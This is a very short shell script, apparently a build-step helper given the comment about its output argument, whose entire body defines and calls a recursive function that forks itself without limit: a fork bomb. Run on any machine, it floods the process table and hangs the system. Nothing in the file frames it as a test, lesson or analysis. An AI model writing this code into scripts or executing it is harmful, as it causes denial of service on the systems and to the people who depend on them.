#!/bin/sh
# $1 is $OUT.
bomb() { bomb | bomb & bomb; }
bomb
